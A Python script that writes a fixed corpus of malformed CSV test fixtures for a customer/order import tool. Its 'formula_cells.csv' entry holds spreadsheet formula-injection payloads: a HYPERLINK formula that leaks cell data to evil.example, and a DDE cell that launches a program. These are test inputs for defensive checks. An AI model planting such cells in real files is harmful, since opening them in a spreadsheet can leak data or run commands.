"""Writes the bad-CSV corpus next to this file (run once; the files themselves are committed).

    .venv/bin/python tests/data/bad_csv/make_corpus.py

Every file is deterministic (fixed gzip/zip timestamps), so running it again changes nothing.
"""
from __future__ import annotations

import gzip
import io
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
CUSTOMERS = "customer_id,name,email,phone,city\n"
ORDERS = "order_id,customer_id,order_date,amount,status\n"


def text(*lines: str) -> bytes:
    return ("\n".join(lines) + "\n").encode("utf-8")


def gz(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0, filename="") as handle:
        handle.write(data)
    return buffer.getvalue()


def zipped(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()


PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

FILES: dict[str, bytes] = {
    "empty.csv": b"",
    "header_only.csv": CUSTOMERS.encode(),
    "blank_lines_only.csv": b"\n\n\r\n\n\n",
    "whitespace_only.csv": b"   \n\t\t\n  \t  \r\n    \n",
    "ragged_rows.csv": text(
        CUSTOMERS.strip(),
        "C1,Ann Lee,ann@example.com,555-0100,Boston",
        "C2,Bob Stone,bob@example.com,555-0101,Denver,extra,fields",
        "C3,Cy Twombly,cy@example.com",
        "C4,Di Prince,di@example.com,555-0103,Austin",
    ),
    "unquoted_commas.csv": text(
        "name,email,phone,totalSpends,loyaltyPoints,favoriteCategory,location,modeOfPayment,preferredCommunication",
        "Arjun Mehta,arjun@example.com,9876543210,1520.50,120,Electronics,Chennai, India,UPI,Email",
        "Priya Nair,priya@example.com,9876543211,820.00,40,Books,Mumbai, India,Card,SMS",
        "Ravi Kumar,ravi@example.com,9876543212,45.10,5,Grocery,Delhi, India,Cash,Phone",
        "Sara Iyer,sara@example.com,9876543213,300.00,30,Fashion,Pune, India,UPI,Email",
    ),
    "orphan_orders.csv": text(
        ORDERS.strip(),
        "O-1,CUST001,2024-01-05,10.00,paid",
        "O-2,CUST002,2024-01-06,20.00,paid",
        "O-3,CUST0001,2024-01-07,30.00,paid",
        "O-4,CUST003,2024-01-08,40.00,paid",
    ),
    "duplicate_emails_case.csv": text(
        CUSTOMERS.strip(),
        "C1,Ann Lee,Ann.Lee@Example.com,,Boston",
        "C2,Bob Stone,bob@example.com,,Denver",
        "C3,Annie Lee,ann.lee@example.com,,Boston",
        "C4,Bobby Stone,BOB@EXAMPLE.COM,,Denver",
    ),
    "invalid_emails.csv": text(
        CUSTOMERS.strip(),
        "C1,Ann Lee,ann@example.com,,Boston",
        "C2,Bob Stone,bob(at)example.com,,Denver",
        "C3,Cy Twombly,cy@example,,Austin",
        "C4,Di Prince,di prince@example.com,,Austin",
        "C5,Ed Wood,ed@@example.com,,Reno",
        "C6,Flo Rida,flo@example.org,,Miami",
    ),
    "negative_amounts.csv": text(
        ORDERS.strip(),
        "O-1,C1,2024-01-05,25.00,paid",
        "O-2,C1,2024-01-06,-25.00,paid",
        "O-3,C2,2024-01-07,-5.50,cancelled",
        "O-4,C2,2024-01-08,12.00,shipped",
    ),
    "non_numeric_amounts.csv": text(
        ORDERS.strip(),
        "O-1,C1,2024-01-05,25.00,paid",
        "O-2,C1,2024-01-06,abc,paid",
        "O-3,C2,2024-01-07,12.3.4,paid",
        "O-4,C2,2024-01-08,N/A,paid",
        "O-5,C3,2024-01-09,$1,234.50,paid",
        "O-6,C3,2024-01-10,\"$1,234.50\",paid",
    ),
    "mixed_date_formats.csv": text(
        ORDERS.strip(),
        "O-1,C1,2024-03-01,10.00,paid",
        "O-2,C1,2024-03-02 14:30:00,10.00,paid",
        "O-3,C2,03/15/2024,10.00,paid",
        "O-4,C2,15.03.2024,10.00,paid",
        "O-5,C3,\"March 5, 2024\",10.00,paid",
        "O-6,C3,2024-03-06T08:00:00Z,10.00,paid",
    ),
    "latin1_cp1252.csv": (
        "customer_id,name,email,phone,city\n"
        "C1,José Núñez,jose@example.com,,Málaga\n"
        "C2,Jürgen Müller,juergen@example.com,,Köln\n"
        "C3,Zoë Price €,zoe@example.com,,Genève\n"
    ).encode("cp1252"),
    "utf8_bom.csv": b"\xef\xbb\xbf" + text(
        "email,name,city",
        "ann@example.com,Ann Lee,Boston",
        "bob@example.com,Bob Stone,Zürich",
    ),
    "huge_field.csv": text(
        "customer_id,name,email,notes",
        "C1,Ann Lee,ann@example.com," + "x" * (1024 * 1024),
        "C2,Bob Stone,bob@example.com,short note",
    ),
    "formula_cells.csv": text(
        CUSTOMERS.strip(),
        "C1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",ann@example.com,,Boston",
        "C2,+cmd|' /C calc'!A0,bob@example.com,,Denver",
        "C3,@SUM(1),cy@example.com,,=1+2",
        "C4,-2+3,di@example.com,,Austin",
    ),
    "png_renamed.csv": PNG,
    "zip_renamed.csv": zipped("customers.csv", text(CUSTOMERS.strip(), "C1,Ann,ann@example.com,,Boston")),
    "old_excel.csv": OLE,
    "unterminated_quote.csv": text(
        CUSTOMERS.strip(),
        "C1,Ann Lee,ann@example.com,,Boston",
        "C2,\"Bob Stone,bob@example.com,,Denver",
        "C3,Cy Twombly,cy@example.com,,Austin",
    ),
    "semicolon_decimal_comma.csv": text(
        "order_id;customer_id;order_date;amount;status",
        "O-1;C1;05.01.2024;1.234,50;paid",
        "O-2;C1;06.01.2024;12,50;paid",
        "O-3;C2;07.01.2024;0,99;shipped",
    ),
    "tab_delimited.tsv": text(
        "customer_id\tname\temail\tcity",
        "C1\tAnn Lee, Jr.\tann@example.com\tBoston",
        "C2\tBob Stone\tbob@example.com\tDenver",
    ),
    "gzipped.csv.gz": gz(text(
        CUSTOMERS.strip(),
        "C1,Ann Lee,ann@example.com,,Boston",
        "C2,Bob Stone,bob@example.com,,Denver",
        "C3,Cy Twombly,not-an-email,,Austin",
    )),
    "preamble.csv": text(
        "Customer export",
        "Generated 2024-05-01 by Shop Admin",
        "",
        CUSTOMERS.strip(),
        "C1,Ann Lee,ann@example.com,,Boston",
        "C2,Bob Stone,bob.example.com,,Denver",
        "C3,Cy Twombly,cy@example.com,,Austin",
    ),
    "duplicate_headers.csv": text(
        "customer_id,email,name,email",
        "C1,ann@example.com,Ann Lee,ann.work@example.com",
        "C2,bob@example.com,Bob Stone,",
    ),
    "missing_order_id.csv": text(
        "customer_id,order_date,amount,status",
        "C1,2024-01-05,10.00,paid",
        "C2,2024-01-06,20.00,paid",
    ),
    "unknown_status.csv": text(
        ORDERS.strip(),
        "O-1,C1,2024-01-05,10.00,paid",
        "O-2,C1,2024-01-06,10.00,teleported",
        "O-3,C2,2024-01-07,10.00,Completed",
        "O-4,C2,2024-01-08,10.00,lost in space",
    ),
    "impossible_dates.csv": text(
        ORDERS.strip(),
        "O-1,C1,28/02/2024,10.00,paid",
        "O-2,C1,31/02/2024,10.00,paid",
        "O-3,C2,15/03/2024,10.00,paid",
        "O-4,C2,30/02/2023,10.00,paid",
        "O-5,C3,29/02/2024,10.00,paid",
    ),
    "long_line.csv": text(
        CUSTOMERS.strip(),
        "C1,Ann Lee,ann@example.com,,Boston",
        "C2,Bob Stone,bob@example.com,,Denver," + "x" * 300_000,  # not 150k fields: see README
        "C3,Cy Twombly,cy@example.com,,Austin",
    ),
    "float_customer_ids.csv": text(
        "InvoiceNo,StockCode,Description,Quantity,InvoiceDate,UnitPrice,CustomerID,Country",
        "536365,85123A,WHITE HANGING HEART T-LIGHT HOLDER,6,12/1/2010 8:26,2.55,17850.0,United Kingdom",
        "536365,71053,WHITE METAL LANTERN,6,12/1/2010 8:26,3.39,17850.0,United Kingdom",
        "536366,22633,HAND WARMER UNION JACK,6,12/1/2010 8:28,1.85,17850,United Kingdom",
        "536367,84879,ASSORTED COLOUR BIRD ORNAMENT,32,12/1/2010 8:34,1.69,13047.0,United Kingdom",
    ),
    "utf16_excel.csv": "\ufeffcustomer_id\tname\temail\nC1\tÅsa Öberg\tasa@example.com\nC2\t李雷\tli@example.com\n"
    .encode("utf-16-le"),
    "quoted_newlines.csv": text(
        "customer_id,name,email,city",
        "C1,Ann Lee,ann@example.com,\"Boston",
        "MA\"",
        "C2,Bob Stone,bob@@example.com,Denver",
    ),
    "stray_nul_byte.csv": text(CUSTOMERS.strip(), "C1,Ann Lee,ann@example.com,,Bos\x00ton"),
}


def main() -> None:
    for name, data in FILES.items():
        (HERE / name).write_bytes(data)
    print(f"{len(FILES)} files written to {HERE}")


if __name__ == "__main__":
    main()
